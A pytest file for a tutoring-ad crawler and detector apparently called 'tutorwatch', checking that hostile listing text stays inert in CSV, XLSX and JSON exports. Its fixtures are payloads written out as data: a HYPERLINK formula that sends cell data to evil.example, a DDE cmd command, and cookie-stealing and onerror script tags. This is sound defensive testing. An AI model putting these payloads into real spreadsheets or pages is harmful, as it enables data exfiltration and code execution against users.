"""Hostile listings: formulas, markup, surrogates, bidi and zero-width marks, huge lines — inert everywhere.

Each goes through the real store and export (crawler/leads/store.py, crawler/leads/export.py)
and the real ``tutorwatch scan``: the CSV cell is the text escaped by safe_cell, the XLSX cell is
a text cell (never a formula or an error value), the JSON lines parse, and the detectors' work on
a megabyte-long line is bounded by a CPU-seconds limit (no wall-clock timing).
"""

from __future__ import annotations

import csv
import io
import json
import resource
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from crawler.extraction.listing import Listing
from crawler.leads.columns import FORMULA_STARTS, LEAD_COLUMNS, NUMBERS, safe_cell
from crawler.leads.export import export_store
from crawler.leads.store import LeadStore
from detectors import analyze
from detectors.surrogates import replace_surrogates
from tests.conftest import TUTORWATCH, read_jsonl

HOSTILE = {
    "HYPERLINK formula": '=HYPERLINK("http://evil.example/?q="&A1,"点我领取")',
    "DDE command": "+cmd|' /C calc'!A0",
    "at-function": "@SUM(A1:A9)",
    "leading tab": "\t=1+1",
    "leading CR": "\r=1+1",
    "arithmetic": "-2+3",
    "error value": "#N/A",
    "script": "<script>alert(document.cookie)</script>一对一数学",
    "markup": '<img src=x onerror="alert(1)"><b>初中</b>数学',
    "lone surrogates": "数\ud800学一对一\udfff",
    "RTL override": "\u202e一对一数学\u202c老师",
    "zero-width": "一\u200b对\u200d一\ufeff数学",
    "control characters": "a\x00b\x07c\x1b[31m红",
    "very long line": "一对一数学，" * 20_000,
}
VIOLATION = "初中数学一对一，老师上门"
TEXT_OR_NUMBER = ("s", "inlineStr", "n")  # never "f" (formula) or "e" (error value)


def hostile_listing(number: int, text: str) -> Listing:
    """A listing that is a lead, with the hostile text in every field the leads files show."""
    listing = Listing(
        f"http://127.0.0.1:1/p/{number}", "", "s", "tutoring", text, f"{text} {VIOLATION}", publisher=text
    )
    return replace(listing, contact=text, city=text, district=text, price=text, posted_at=text)


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every hostile listing stored and exported, with the hostile text as the analyst's note too."""
    root = tmp_path_factory.mktemp("hostile")
    with LeadStore(root / "leads.db") as store:
        for number, text in enumerate(HOSTILE.values()):
            listing = hostile_listing(number, text)
            assert store.upsert(listing, analyze(listing.title, listing.body, listing.platform)) == "new"
            store.conn.execute("UPDATE leads SET notes = ? WHERE url = ?", (listing.title, listing.url))
        export_store(store, root / "reports")
    return root


def by_url(rows: list[dict]) -> dict[str, dict]:
    return {row["url"].removeprefix("'"): row for row in rows}


@pytest.mark.parametrize(("name", "text"), HOSTILE.items(), ids=HOSTILE.keys())
def test_csv_cells_are_the_text_escaped(exported: Path, name: str, text: str) -> None:
    data = (exported / "reports" / "leads.csv").read_bytes().decode("utf-8-sig")  # no newline translation: CR stays
    rows = list(csv.DictReader(io.StringIO(data, newline="")))
    row = by_url(rows)[f"http://127.0.0.1:1/p/{list(HOSTILE).index(name)}"]
    stored = replace_surrogates(text)
    for column in ("title", "publisher", "contact", "city", "district", "price", "posted_at", "notes"):
        assert row[column] == safe_cell(stored), column
    for column in LEAD_COLUMNS:
        if column not in NUMBERS:
            assert not row[column].startswith(FORMULA_STARTS), f"{column} would be evaluated: {row[column]!r}"


DATE_COLUMNS = ("首次发现", "最近发现", "研判时间", "有变化时间")


def test_xlsx_cells_are_text_never_formulas_or_errors(exported: Path) -> None:
    book = load_workbook(exported / "reports" / "leads.xlsx")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                ours = cell.data_type == "d" and sheet.cell(1, cell.column).value in DATE_COLUMNS  # our dates
                assert cell.data_type in TEXT_OR_NUMBER or ours, f"{sheet.title}!{cell.coordinate} is {cell.data_type}"
    sheet = book["线索"]
    header = [cell.value for cell in sheet[1]]
    titles = {row[header.index("链接")].value: row[header.index("标题")].value for row in sheet.iter_rows(min_row=2)}
    for number, text in enumerate(HOSTILE.values()):
        shown = ILLEGAL_CHARACTERS_RE.sub("", replace_surrogates(text))[:32767]  # Excel's limit per cell
        assert (titles[f"http://127.0.0.1:1/p/{number}"] or "") == shown


def test_scan_json_of_hostile_listings_is_valid_json_with_exact_spans(tmp_path: Path) -> None:
    docs = [{"id": name, "title": text, "text": f"{text}\n{VIOLATION}"} for name, text in HOSTILE.items()]
    docs.append({"id": "\ud800 surrogate id", "title": "一对一", "text": "数学"})
    stdin = "\n".join(json.dumps(doc) for doc in docs) + "\n"  # ASCII JSON: "\ud800" as an escape
    result = subprocess.run(
        [TUTORWATCH, "scan", "--format", "jsonl"], input=stdin, capture_output=True, text=True, timeout=300
    )
    assert result.returncode == 0, result.stderr
    out = read_jsonl(result.stdout)
    assert [record["id"] for record in out[:-1]] == list(HOSTILE)
    for doc, record in zip(docs, out, strict=True):
        assert record["flagged"], doc["id"]
        full = replace_surrogates(doc["title"] + "\n" + doc["text"])
        for finding in record["findings"]:
            assert full[finding["start"] : finding["end"]] == finding["text"]
    page = tmp_path / "ad.html"
    page.write_text(f"<html><body><article><h1>{HOSTILE['RTL override']}</h1>{HOSTILE['script']}</article>")
    html = subprocess.run([TUTORWATCH, "scan", str(page), "--json"], capture_output=True, text=True, timeout=300)
    assert html.returncode == 0 and read_jsonl(html.stdout)[0]["flagged"]


MEGABYTE = 1_000_000
AD = "周末初中数学一对一，老师上门，电话13800001234，微信abc_123，岳阳某某教育培训学校，保证提分！"
EVASIONS = "jia教 ydy sx 1v1 VX:abc_1234 佳教\u200b辅导 <b>数</b>学 \u202e一 对 一\u202c 🔥"


def limit_cpu(seconds: int) -> None:
    resource.setrlimit(resource.RLIMIT_CPU, (seconds, seconds))


def test_megabyte_lines_cost_bounded_work() -> None:
    """Two 1 MB single-line listings (dense key terms; evasions of every kind) under a 150 CPU-second cap.

    The cap is generous (about five times what both take, model included); quadratic work in any
    pass (the homophone pass once took about an hour on the first) is killed by SIGXCPU.
    """
    docs = [
        {"id": "ads", "title": "", "text": (AD * (MEGABYTE // len(AD) + 1))[:MEGABYTE]},
        {"id": "evasions", "title": "", "text": (EVASIONS * (MEGABYTE // len(EVASIONS) + 1))[:MEGABYTE]},
    ]
    stdin = "\n".join(json.dumps(doc, ensure_ascii=False) for doc in docs) + "\n"
    result = subprocess.run(
        [TUTORWATCH, "scan", "--format", "jsonl"],
        input=stdin,
        capture_output=True,
        text=True,
        timeout=900,
        preexec_fn=lambda: limit_cpu(150),
    )
    assert result.returncode == 0, f"exit {result.returncode} (-24: CPU limit hit) {result.stderr[-500:]}"
    out = read_jsonl(result.stdout)
    assert [record["id"] for record in out] == ["ads", "evasions"]
    assert all(record["flagged"] for record in out)
